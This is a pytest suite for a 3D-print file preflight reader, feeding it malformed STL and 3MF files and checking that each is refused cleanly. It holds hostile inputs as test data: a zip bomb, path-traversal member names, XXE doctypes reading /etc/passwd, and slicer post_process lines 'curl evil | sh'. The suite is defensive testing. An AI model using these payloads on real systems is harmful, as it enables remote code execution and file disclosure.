"""Files made to break the reader: each is refused by its own name, in little time and memory."""

import os
import struct
import sys
import time
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.domain.words import Verdict
from core.preflight.limits import ReadLimits
from core.preflight.report import PreflightReport
from core.preflight.service import PRELOAD, run_normalise, run_preflight
from core.preflight.t0 import analyse
from core.workers import Limits, WorkerFailed, WorkerPool
from kiln_tui import demo_parts as parts

CORE = "http://schemas.microsoft.com/3dmanufacturing/core/2015/02"
PRODUCTION = "http://schemas.microsoft.com/3dmanufacturing/production/2015/06"
HERE = str(Path(__file__).parent)
TIGHT = Limits(wall_s=20, cpu_s=15, memory_bytes=700 << 20)


@pytest.fixture(scope="module")
def pool() -> Iterator[WorkerPool]:
    with WorkerPool(1, preload=PRELOAD) as made:
        yield made


def cube_object(number: int, size: float = 10) -> str:
    return parts._object_xml(number, f"cube {number}", parts.cube(size))


def model(resources: str, build: str, head: str = "", attrs: str = "") -> str:
    return (
        f'<?xml version="1.0"?>{head}<model unit="millimeter" xmlns="{CORE}" xmlns:p="{PRODUCTION}" {attrs}>'
        f"<resources>{resources}</resources><build>{build}</build></model>"
    )


def threemf(
    path: Path, xml: str | bytes, extra: Sequence[tuple[str, str | bytes]] = (), name: str = ""
) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", parts._CONTENT_TYPES)
        archive.writestr("_rels/.rels", parts._RELS)
        archive.writestr(name or "3D/3dmodel.model", xml)
        for member, data in extra:
            archive.writestr(member, data)
    return path


def codes(report: PreflightReport) -> set[str]:
    return {f.code for f in report.all_findings}


def refused(report: PreflightReport, *expected: str) -> None:
    assert report.verdict is Verdict.FAIL
    assert codes(report) & set(expected), report.all_findings
    assert not report.crashed
    assert all(f.what and f.why and f.fix and "\x1b" not in f.what for f in report.all_findings)


def harmless(report: PreflightReport) -> None:
    """Any verdict is fine as long as the reader itself holds."""
    assert not report.crashed
    assert "CHECK_CRASHED" not in codes(report)


# --- STL --------------------------------------------------------------------------------------------------


def test_an_empty_file(tmp_path: Path) -> None:
    (tmp_path / "e.stl").write_bytes(b"")
    refused(analyse(tmp_path / "e.stl"), "EMPTY")


def test_a_binary_stl_without_faces(tmp_path: Path) -> None:
    (tmp_path / "e.stl").write_bytes(bytes(84))
    refused(analyse(tmp_path / "e.stl"), "EMPTY")


def test_a_text_stl_without_faces(tmp_path: Path) -> None:
    (tmp_path / "e.stl").write_text("solid x\nendsolid x\n")
    refused(analyse(tmp_path / "e.stl"), "EMPTY")


@pytest.mark.parametrize("share", [0.0005, 0.002, 0.01, 0.3, 0.5, 0.77, 0.9, 0.999])
def test_a_binary_stl_cut_anywhere(share: float, tmp_path: Path) -> None:
    data = parts.stl_bytes(parts.vase())
    (tmp_path / "t.stl").write_bytes(data[: int(len(data) * share)])
    refused(analyse(tmp_path / "t.stl"), "TRUNCATED", *(["UNKNOWN_FORMAT"] if share < 0.001 else []))


def test_a_binary_stl_cut_at_every_byte_near_its_ends(tmp_path: Path) -> None:
    data = parts.stl_bytes(parts.cube(20))
    for end in [*range(1, 140), *range(len(data) - 60, len(data))]:
        (tmp_path / "t.stl").write_bytes(data[:end])
        refused(analyse(tmp_path / "t.stl"), "TRUNCATED", "UNKNOWN_FORMAT")


def test_a_text_stl_cut_anywhere(tmp_path: Path) -> None:
    lines = ["solid x"]
    for triangle in parts.cube(20):
        lines += ["facet normal 0 0 1", "outer loop", *(f"vertex {x} {y} {z}" for x, y, z in triangle)]
        lines += ["endloop", "endfacet"]
    text = "\n".join([*lines, "endsolid x"])
    for end in range(1, len(text) - len("endsolid x") + 3, 7):
        (tmp_path / "t.stl").write_text(text[:end])
        refused(analyse(tmp_path / "t.stl"), "TRUNCATED", "UNKNOWN_FORMAT", "UNREADABLE")


@pytest.mark.parametrize("count", [0, 5, 11])
def test_a_count_smaller_than_the_file_is_not_believed(count: int, tmp_path: Path) -> None:
    data = bytearray(parts.stl_bytes(parts.cube(20)))
    data[80:84] = struct.pack("<I", count)
    (tmp_path / "c.stl").write_bytes(data)
    refused(analyse(tmp_path / "c.stl"), "COUNT_MISMATCH")


def test_a_count_of_billions_allocates_nothing(tmp_path: Path) -> None:
    data = bytearray(parts.stl_bytes(parts.cube(20)))
    data[80:84] = b"\xff\xff\xff\xff"
    (tmp_path / "c.stl").write_bytes(data)
    refused(analyse(tmp_path / "c.stl"), "UNKNOWN_FORMAT")


def test_a_tail_is_told_and_ignored(tmp_path: Path) -> None:
    (tmp_path / "t.stl").write_bytes(parts.stl_bytes(parts.cube(20)) + b"\x00\x01trailer")
    report = analyse(tmp_path / "t.stl")
    assert codes(report) == {"TRAILING_DATA"}
    assert report.parts[0].closed


def test_too_many_faces(tmp_path: Path) -> None:
    few = ReadLimits(faces=8000)
    parts.write_stl(tmp_path / "b.stl", parts.vase())
    parts.write_3mf(tmp_path / "b.3mf", {"vase": (parts.vase(), 1)})
    refused(analyse(tmp_path / "b.stl", (), few), "TOO_MANY_FACES")
    refused(analyse(tmp_path / "b.3mf", (), few), "TOO_MANY_FACES")


@pytest.mark.parametrize(
    "text",
    [
        "solid x\n" + "facet normal 0 0 1 outer loop vertex 0 0 0 vertex 1 0 0 vertex 1 1 0 vertex 0 1 0 "
        "endloop endfacet\nendsolid",
        "solid x\nfacet normal 0 0 1 outer loop vertex 0,5 0 0 vertex 1 0 0 vertex 1 1 0 endloop endfacet\nendsolid",
        "solid x\nfacet normal 0 0 1 outer loop vertex 0 0 0 vertex 1 0 0 endloop endfacet\nendsolid",
        "solid x\n" + "a " * 3_000_000,
        "solid x\n" + "facet " * 21 + "\nendsolid",
    ],
    ids=["quad", "comma", "two-corners", "endless", "keywords"],
)
def test_text_that_is_not_stl(text: str, tmp_path: Path) -> None:
    (tmp_path / "t.stl").write_text(text)
    refused(analyse(tmp_path / "t.stl"), "UNREADABLE", "TRUNCATED")


@pytest.mark.parametrize(
    "content", [b"G28\nG1 X10\n" * 50, b"\x7fELF" + bytes(range(256)) * 20, b"\x00" * 50, b"x"]
)
def test_other_files_are_called_other_files(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "x.stl").write_bytes(content)
    refused(analyse(tmp_path / "x.stl"), "UNKNOWN_FORMAT", "COUNT_MISMATCH")


# --- not plain files --------------------------------------------------------------------------------------


def test_links_pipes_and_folders_are_refused_at_once(tmp_path: Path) -> None:
    parts.write_stl(tmp_path / "real.stl", parts.cube())
    (tmp_path / "link.stl").symlink_to(tmp_path / "real.stl")
    os.mkfifo(tmp_path / "pipe.stl")
    for path in (
        tmp_path / "link.stl",
        tmp_path / "pipe.stl",
        tmp_path,
        tmp_path / "absent",
        Path("/dev/zero"),
    ):
        began = time.monotonic()
        refused(analyse(path), "NOT_A_FILE")
        assert time.monotonic() - began < 1


def test_a_sparse_gigabyte(tmp_path: Path) -> None:
    with (tmp_path / "s.stl").open("wb") as file:
        file.truncate(1 << 30)
    refused(analyse(tmp_path / "s.stl"), "FILE_TOO_BIG")


def test_a_sparse_file_below_the_limit_costs_little(pool: WorkerPool, tmp_path: Path) -> None:
    count = 2_000_000
    with (tmp_path / "s.stl").open("wb") as file:
        file.write(bytes(80) + struct.pack("<I", count))
        file.truncate(84 + 50 * count)
    refused(run_preflight(pool, tmp_path / "s.stl", worker_limits=TIGHT), "NO_VOLUME")


# --- 3MF --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("end", [4, 30, 100, 400, 800, -1, -10, -22, -60])
def test_a_cut_3mf(end: int, tmp_path: Path) -> None:
    parts.write_3mf(tmp_path / "x.3mf", {"cube": (parts.cube(), 1)})
    (tmp_path / "t.3mf").write_bytes((tmp_path / "x.3mf").read_bytes()[:end])
    refused(analyse(tmp_path / "t.3mf"), "TRUNCATED", "UNREADABLE")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_flipped_bytes_never_break_the_reader(tmp_path: Path, data: st.DataObject) -> None:
    if not (tmp_path / "x.3mf").exists():
        parts.write_3mf(tmp_path / "x.3mf", {"cube": (parts.cube(), 2)})
        parts.write_stl(tmp_path / "x.stl", parts.cube())
    content = bytearray((tmp_path / data.draw(st.sampled_from(["x.3mf", "x.stl"]))).read_bytes())
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    (tmp_path / "f").write_bytes(content)
    harmless(analyse(tmp_path / "f"))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.data())
def test_mangled_xml_never_breaks_the_reader(tmp_path: Path, data: st.DataObject) -> None:
    xml = model(
        cube_object(1) + '<object id="2"><components><component objectid="1" '
        'transform="1 0 0 0 1 0 0 0 1 5 5 5"/></components></object>',
        '<item objectid="2" transform="1 0 0 0 1 0 0 0 1 0 0 0"/><item objectid="1"/>',
    )
    pieces = [
        "-1",
        "nan",
        "1e999",
        "",
        " ",
        "<",
        ">",
        '"',
        "objectid",
        "999999999999999999999",
        "0",
        "&#0;",
        "id",
    ]
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(xml)))
        xml = xml[:at] + data.draw(st.sampled_from(pieces)) + xml[at + data.draw(st.integers(0, 12)) :]
    harmless(analyse(threemf(tmp_path / "x.3mf", xml)))


def test_a_zip_bomb(pool: WorkerPool, tmp_path: Path) -> None:
    path = tmp_path / "b.3mf"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("_rels/.rels", parts._RELS)
        with archive.open("3D/3dmodel.model", "w", force_zip64=True) as member:
            for _ in range(200):
                member.write(b" " * (1 << 20))
    refused(run_preflight(pool, path, worker_limits=TIGHT), "ZIP_BOMB")


def test_a_bomb_by_the_declared_sum_and_by_its_members(tmp_path: Path) -> None:
    path = threemf(
        tmp_path / "b.3mf", model(cube_object(1), '<item objectid="1"/>'), [("Metadata/a.png", b"x" * 9000)]
    )
    refused(analyse(path, (), ReadLimits(zip_bytes=9000)), "ZIP_BOMB")
    refused(analyse(path, (), ReadLimits(zip_members=3)), "ZIP_BOMB")
    assert analyse(path).verdict is Verdict.PASS


def test_a_size_that_lies_is_cut_at_what_it_says(tmp_path: Path) -> None:
    path = threemf(tmp_path / "l.3mf", model(cube_object(1), '<item objectid="1"/>'))
    data = bytearray(path.read_bytes())
    at = data.rfind(b"PK\x01\x02")
    data[at + 24 : at + 28] = struct.pack("<I", 100)
    path.write_bytes(data)
    refused(analyse(path), "TRUNCATED", "UNREADABLE")


def test_overlapping_members(tmp_path: Path) -> None:
    path = threemf(
        tmp_path / "o.3mf", model(cube_object(1), '<item objectid="1"/>'), [("Metadata/a", b"a" * 100)]
    )
    data = bytearray(path.read_bytes())
    first = data.find(b"PK\x01\x02")
    last = data.rfind(b"PK\x01\x02")
    data[last + 42 : last + 46] = data[first + 42 : first + 46]
    path.write_bytes(data)
    refused(analyse(path), "ZIP_OVERLAP")


def test_the_same_name_twice(tmp_path: Path) -> None:
    path = tmp_path / "d.3mf"
    xml = model(cube_object(1), '<item objectid="1"/>')
    refused(analyse(threemf(path, xml, [("3d/3DMODEL.model", xml)])), "ZIP_OVERLAP")


@pytest.mark.parametrize(
    "name", ["../../etc/x", "/etc/passwd", "a/../../b", "..\\..\\x", "C:/x", "\\\\host\\x"]
)
def test_names_that_point_elsewhere(name: str, tmp_path: Path) -> None:
    path = threemf(tmp_path / "t.3mf", model(cube_object(1), '<item objectid="1"/>'), [(name, b"x")])
    refused(analyse(path), "PATH_TRAVERSAL")


def test_an_encrypted_member(tmp_path: Path) -> None:
    path = threemf(tmp_path / "e.3mf", model(cube_object(1), '<item objectid="1"/>'))
    data = bytearray(path.read_bytes())
    data[data.rfind(b"PK\x01\x02") + 8] |= 1
    path.write_bytes(data)
    refused(analyse(path), "UNREADABLE")


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE model [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE model SYSTEM "file:///etc/passwd">',
        '<!DOCTYPE model [<!ENTITY % x SYSTEM "http://127.0.0.1/x">%x;]>',
    ],
)
def test_document_types_and_entities(head: str, tmp_path: Path) -> None:
    refused(analyse(threemf(tmp_path / "x.3mf", model("", "", head))), "XML_FORBIDDEN")


def test_deep_xml(pool: WorkerPool, tmp_path: Path) -> None:
    deep = model("<a>" * 100_000 + "</a>" * 100_000, "")
    refused(run_preflight(pool, threemf(tmp_path / "d.3mf", deep), worker_limits=TIGHT), "XML_TOO_DEEP")


@pytest.mark.parametrize("long", ['<resources a="{}"/>', "<!--{}-->", "<{}/>"])
def test_words_without_end(long: str, pool: WorkerPool, tmp_path: Path) -> None:
    xml = f'<model xmlns="{CORE}" unit="millimeter">{long.format("abcdefgh" * (3 << 20))}</model>'
    began = time.monotonic()
    refused(run_preflight(pool, threemf(tmp_path / "w.3mf", xml), worker_limits=TIGHT), "UNREADABLE")
    assert time.monotonic() - began < 5


def test_three_hundred_thousand_items(pool: WorkerPool, tmp_path: Path) -> None:
    path = threemf(tmp_path / "i.3mf", model(cube_object(1), '<item objectid="1"/>' * 300_000))
    assert path.stat().st_size < 40_000
    began = time.monotonic()
    refused(run_preflight(pool, path, worker_limits=TIGHT), "TOO_MANY_OBJECTS")
    assert time.monotonic() - began < 5


def test_too_many_different_parts(tmp_path: Path) -> None:
    items = "".join(
        f'<item objectid="1" transform="{1 + i / 1e4} 0 0 0 1 0 0 0 1 0 0 0"/>' for i in range(1500)
    )
    refused(analyse(threemf(tmp_path / "p.3mf", model(cube_object(1), items))), "TOO_MANY_OBJECTS")


def test_components_that_contain_themselves(tmp_path: Path) -> None:
    ring = "".join(
        f'<object id="{i}"><components><component objectid="{i % 3 + 1}"/></components></object>'
        for i in (1, 2, 3)
    )
    refused(analyse(threemf(tmp_path / "c.3mf", model(ring, '<item objectid="1"/>'))), "COMPONENT_CYCLE")


@pytest.mark.parametrize(
    "leaf", [cube_object(1), '<object id="1"><mesh><vertices/><triangles/></mesh></object>']
)
def test_components_that_double_forty_times(leaf: str, pool: WorkerPool, tmp_path: Path) -> None:
    doubling = "".join(
        f'<object id="{i}"><components><component objectid="{i - 1}"/><component objectid="{i - 1}"/>'
        "</components></object>"
        for i in range(2, 42)
    )
    path = threemf(tmp_path / "d.3mf", model(leaf + doubling, '<item objectid="41"/>'))
    refused(run_preflight(pool, path, worker_limits=TIGHT), "TOO_MANY_FACES", "TOO_MANY_OBJECTS")


def test_components_nested_without_end(tmp_path: Path) -> None:
    chain = "".join(
        f'<object id="{i}"><components><component objectid="{i - 1}"/></components></object>'
        for i in range(2, 3000)
    )
    path = threemf(tmp_path / "n.3mf", model(cube_object(1) + chain, '<item objectid="2999"/>'))
    refused(analyse(path), "COMPONENT_CYCLE")


@pytest.mark.parametrize(
    ("resources", "build"),
    [
        (cube_object(1), '<item objectid="7"/>'),
        (cube_object(1) + cube_object(1), '<item objectid="1"/>'),
        (cube_object(1).replace('v1="0"', 'v1="99"'), '<item objectid="1"/>'),
        (cube_object(1).replace('v1="0"', 'v1="-1"'), '<item objectid="1"/>'),
        (cube_object(1).replace('x="10"', 'x="ten"'), '<item objectid="1"/>'),
        (cube_object(1), '<item objectid="1" transform="1 0 0"/>'),
        (cube_object(1), '<item objectid="1" transform="0 0 0 0 0 0 0 0 0 0 0 0"/>'),
        (cube_object(1), '<item objectid="1" transform="nan 0 0 0 1 0 0 0 1 0 0 0"/>'),
        (cube_object(1), '<item objectid="1" p:path="/3D/absent.model"/>'),
        (cube_object(1), "<item/>"),
    ],
)
def test_references_to_nothing_and_broken_numbers(resources: str, build: str, tmp_path: Path) -> None:
    refused(analyse(threemf(tmp_path / "r.3mf", model(resources, build))), "UNREADABLE")


def test_an_object_inside_an_object(tmp_path: Path) -> None:
    nested = cube_object(1).replace("<mesh>", cube_object(2) + "<mesh>")
    refused(analyse(threemf(tmp_path / "o.3mf", model(nested, '<item objectid="1"/>'))), "UNREADABLE")


def test_nothing_to_build(tmp_path: Path) -> None:
    refused(analyse(threemf(tmp_path / "e.3mf", model(cube_object(1), ""))), "EMPTY")
    empty = model('<object id="1"><mesh><vertices/><triangles/></mesh></object>', '<item objectid="1"/>')
    refused(analyse(threemf(tmp_path / "f.3mf", empty)), "EMPTY")


def test_zips_that_are_no_models(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "z.3mf", "w") as archive:
        archive.writestr("readme.txt", "hello")
    refused(analyse(tmp_path / "z.3mf"), "UNKNOWN_FORMAT")
    with zipfile.ZipFile(tmp_path / "y.3mf", "w") as archive:
        archive.writestr("_rels/.rels", "<Relationships/>")
    refused(analyse(tmp_path / "y.3mf"), "UNKNOWN_FORMAT")
    with zipfile.ZipFile(tmp_path / "empty.3mf", "w"):
        pass
    refused(analyse(tmp_path / "empty.3mf"), "UNKNOWN_FORMAT")


def test_a_sliced_project(tmp_path: Path) -> None:
    path = threemf(tmp_path / "g.3mf", model("", ""), [("Metadata/plate_1.gcode", "G28")])
    refused(analyse(path), "ALREADY_SLICED")


def test_an_unknown_required_extension(tmp_path: Path) -> None:
    lattice = (
        'xmlns:b="http://schemas.microsoft.com/3dmanufacturing/beamlattice/2017/02" requiredextensions="b"'
    )
    path = threemf(tmp_path / "b.3mf", model(cube_object(1), '<item objectid="1"/>', attrs=lattice))
    refused(analyse(path), "UNSUPPORTED_EXTENSION")
    path = threemf(
        tmp_path / "p.3mf", model(cube_object(1), '<item objectid="1"/>', attrs='requiredextensions="p"')
    )
    assert analyse(path).verdict is Verdict.PASS


def test_components_across_model_parts_units_and_mirrors(tmp_path: Path) -> None:
    inner = model(cube_object(7, 1), "")
    outer = model(
        '<object id="1" name="pair"><components>'
        '<component objectid="7" p:path="/3D/Objects/a.model" transform="-1 0 0 0 1 0 0 0 1 0 0 0"/>'
        '<component objectid="7" p:path="/3D/Objects/a.model" transform="1 0 0 0 1 0 0 0 1 3 0 0"/>'
        "</components></object>",
        '<item objectid="1"/><item objectid="1" transform="1 0 0 0 1 0 0 0 1 50 50 0"/>'
        '<item objectid="1" transform="0 1 0 -1 0 0 0 0 2 0 0 0"/><item objectid="1" printable="0"/>',
    )
    inch = (outer.replace("millimeter", "inch"), inner.replace("millimeter", "inch"))
    report = analyse(threemf(tmp_path / "p.3mf", inch[0], [("3D/Objects/a.model", inch[1])]))
    assert codes(report) == {"ITEMS_LEFT_OUT"}
    pair, tall = report.parts
    assert (pair.name, pair.quantity, tall.name, tall.quantity) == ("pair", 2, "pair (2)", 1)
    assert pair.size == pytest.approx((5 * 25.4, 25.4, 25.4))
    assert tall.size == pytest.approx((25.4, 5 * 25.4, 2 * 25.4))
    assert pair.closed
    assert not pair.inverted
    assert pair.volume_mm3 == pytest.approx(2 * 25.4**3)
    refused(analyse(threemf(tmp_path / "q.3mf", inch[0], [("3D/Objects/a.model", inner)])), "UNREADABLE")


@pytest.mark.parametrize(
    ("member", "text"),
    [
        (
            "Metadata/Slic3r_PE.config",
            "; layer_height = 0.2\n; post_process = /bin/sh -c 'curl \x1b[31mevil|sh'\n",
        ),
        ("Metadata/project_settings.config", '{"layer_height": "0.2", "post_process": ["curl evil | sh"]}'),
        ("metadata/PROJECT_settings.config", '{"post_process": [\n  "curl evil | sh"\n]}'),
    ],
)
def test_scripts_are_surfaced(member: str, text: str, tmp_path: Path) -> None:
    report = analyse(
        threemf(tmp_path / "s.3mf", model(cube_object(1), '<item objectid="1"/>'), [(member, text)])
    )
    assert codes(report) == {"EMBEDDED_SCRIPT"}
    assert report.verdict is Verdict.WARN
    assert "curl" in report.findings[0].what
    assert "\x1b" not in report.findings[0].what


@pytest.mark.parametrize(
    "text", ["; post_process = \n; x = 1", '{"post_process": []}', '{"post_process": [""]}', ""]
)
def test_no_script_is_no_finding(text: str, tmp_path: Path) -> None:
    xml = model(cube_object(1), '<item objectid="1"/>')
    assert analyse(threemf(tmp_path / "s.3mf", xml, [("Metadata/x.config", text)])).findings == ()


def two_shells() -> str:
    """One object of two cubes, as PrusaSlicer writes a part (faces 0 to 11) with a helper (12 to 23)."""
    mesh = parts.cube(10) + [
        ((x + 20, *a), (y + 20, *b), (z + 20, *c)) for (x, *a), (y, *b), (z, *c) in parts.cube(5)
    ]
    return parts._object_xml(1, "", mesh)  # type: ignore[arg-type] - still three numbers per corner


def prusa(kind: str, first: int = 12, last: int = 23) -> tuple[str, str]:
    return (
        "Metadata/Slic3r_PE_model.config",
        '<?xml version="1.0"?><config><object id="1"><metadata type="object" key="name" value="lever"/>'
        '<volume firstid="0" lastid="11"><metadata type="volume" key="name" value="inner"/>'
        '<metadata type="volume" key="volume_type" value="ModelPart"/></volume>'
        f'<volume firstid="{first}" lastid="{last}"><metadata type="volume" {kind}/></volume></object></config>',
    )


def orca(kind: str) -> tuple[str, str]:
    return (
        "Metadata/model_settings.config",
        '<config><object id="3"><metadata key="name" value="lever"/><part id="1" subtype="normal_part"/>'
        f'<part id="2" subtype="{kind}"><metadata key="name" value="x"/></part></object></config>',
    )


ORCA = model(
    cube_object(1, 10)
    + cube_object(2, 40)
    + '<object id="3"><components><component objectid="1"/><component objectid="2"/></components></object>',
    '<item objectid="3"/>',
)


@pytest.mark.parametrize(
    ("code", "settings"),
    [
        ("HELPERS_LEFT_OUT", prusa('key="volume_type" value="ParameterModifier"')),
        ("HELPERS_LEFT_OUT", prusa('key="volume_type" value="SupportEnforcer"')),
        ("HELPERS_LEFT_OUT", prusa('key="modifier" value="1"')),
        ("PROJECT_CUTS", prusa('key="volume_type" value="NegativeVolume"')),
        ("HELPERS_LEFT_OUT", orca("modifier_part")),
        ("PROJECT_CUTS", orca("negative_part")),
    ],
)
def test_helper_shapes_are_never_printed_as_parts(
    code: str, settings: tuple[str, str], tmp_path: Path
) -> None:
    xml = ORCA if "model_settings" in settings[0] else model(two_shells(), '<item objectid="1"/>')
    report = analyse(threemf(tmp_path / "m.3mf", xml, [settings]))
    assert codes(report) == {code}
    assert report.verdict is (Verdict.FAIL if code == "PROJECT_CUTS" else Verdict.WARN)
    part = report.parts[0]
    assert (part.name, part.triangles, part.size, part.closed) == ("lever", 12, (10, 10, 10), True)


@pytest.mark.parametrize(("first", "last"), [(-5, 3), (12, 24), (20, 12), (0, 10**12)])
def test_helper_shapes_that_lie_about_their_place(first: int, last: int, tmp_path: Path) -> None:
    settings = prusa('key="volume_type" value="ParameterModifier"', first, last)
    path = threemf(tmp_path / "m.3mf", model(two_shells(), '<item objectid="1"/>'), [settings])
    refused(analyse(path), "UNREADABLE")


def test_plain_projects_keep_everything(tmp_path: Path) -> None:
    settings = prusa('key="volume_type" value="ModelPart"')
    path = threemf(tmp_path / "m.3mf", model(two_shells(), '<item objectid="1"/>'), [settings])
    report = analyse(path)
    assert report.all_findings == ()
    assert report.parts[0].triangles == 24


def test_hostile_names_reach_no_screen(tmp_path: Path) -> None:
    xml = model(cube_object(1).replace("cube 1", "a\u202e&#x9;b" + "x" * 500), '<item objectid="1"/>')
    name = analyse(threemf(tmp_path / "n.3mf", xml)).parts[0].name
    assert "\u202e" not in name
    assert len(name) <= 80


# --- the worker's end -------------------------------------------------------------------------------------


def test_timeout_memory_crash_and_close_become_reports(tmp_path: Path) -> None:
    count = 9_000_000
    slow = tmp_path / "slow.stl"
    with slow.open("wb") as file:
        file.write(bytes(80) + struct.pack("<I", count))
        file.truncate(84 + 50 * count)
    with WorkerPool(1, preload=PRELOAD) as pool:
        late = run_preflight(pool, slow, worker_limits=Limits(wall_s=0.5))
        assert codes(late) == {"TIMEOUT"}
        busy = run_preflight(pool, slow, worker_limits=Limits(wall_s=60, cpu_s=1))
        assert codes(busy) == {"TIMEOUT"}
        small = run_preflight(pool, slow, worker_limits=Limits(memory_bytes=20 << 20))
        assert codes(small) <= {"OUT_OF_MEMORY", "CHECK_CRASHED"}
        stopped = run_preflight(pool, slow, on_started=lambda task: task.cancel())
        assert codes(stopped) == {"CHECK_STOPPED"}
        for report in (late, busy, small, stopped):
            assert report.verdict is Verdict.FAIL
        assert not late.crashed
        parts.write_stl(tmp_path / "c.stl", parts.cube())
        with pytest.raises(WorkerFailed, match="no part number 5"):
            run_normalise(pool, tmp_path / "c.stl", 5, tmp_path / "n.stl")
        assert run_normalise(pool, tmp_path / "c.stl", 0, tmp_path / "n.stl").triangles == 12


def test_progress_is_told(pool: WorkerPool, tmp_path: Path) -> None:
    count = 4_000_000
    with (tmp_path / "s.stl").open("wb") as file:
        file.write(bytes(80) + struct.pack("<I", count))
        file.truncate(84 + 50 * count)
    seen: list[Any] = []
    run_preflight(pool, tmp_path / "s.stl", on_progress=seen.append)
    assert seen == sorted(seen)
    assert 0 < seen[0][0] < count


def test_a_large_file_is_streamed(tmp_path: Path) -> None:
    """A file of 100 MB may cost no more memory than a few chunks: measured in a fresh process."""
    count = 2_000_000
    with (tmp_path / "s.stl").open("wb") as file:
        file.write(bytes(80) + struct.pack("<I", count))
        file.truncate(84 + 50 * count)
    parts.write_stl(tmp_path / "small.stl", parts.vase())
    sys.path.append(HERE)
    try:
        with WorkerPool(1, preload=PRELOAD) as fresh:
            small, large = (
                fresh.submit("preflight_victims:peak_kb_of_analyse", tmp_path / name, returns=int).result(60)
                for name in ("small.stl", "s.stl")
            )
    finally:
        sys.path.remove(HERE)
    assert large - small < 8 << 10
